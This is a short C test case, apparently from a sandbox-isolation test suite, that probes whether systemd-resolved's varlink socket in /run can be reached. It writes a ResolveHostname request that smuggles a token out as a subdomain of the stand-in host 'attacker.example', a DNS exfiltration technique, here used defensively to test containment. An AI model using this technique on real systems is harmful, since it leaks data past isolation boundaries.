// SPDX-License-Identifier: Apache-2.0
/* nss-resolve asks systemd-resolved by a UNIX socket; a stand-in is at a path of the same kind. */
#include "../case.h"

#include <stdio.h>
#include <unistd.h>

static void attempt(const struct target *t, struct attempt *a)
{
	int fd = friend_open(a, t->run);

	if (fd < 0)
		return;
	dprintf(fd,
		"{\"method\":\"io.systemd.Resolve.ResolveHostname\",\"parameters\":{\"name\":\"%s."
		"attacker.example\"}}",
		t->token);
	close(fd);
}

CASE(dns_resolve_varlink) = { .title = "nss-resolve's socket in /run",
			      .source = "field A11",
			      .group = "resolver",
			      .families = FOUR,
			      .settings = OWN | HOST,
			      .attempt = attempt };
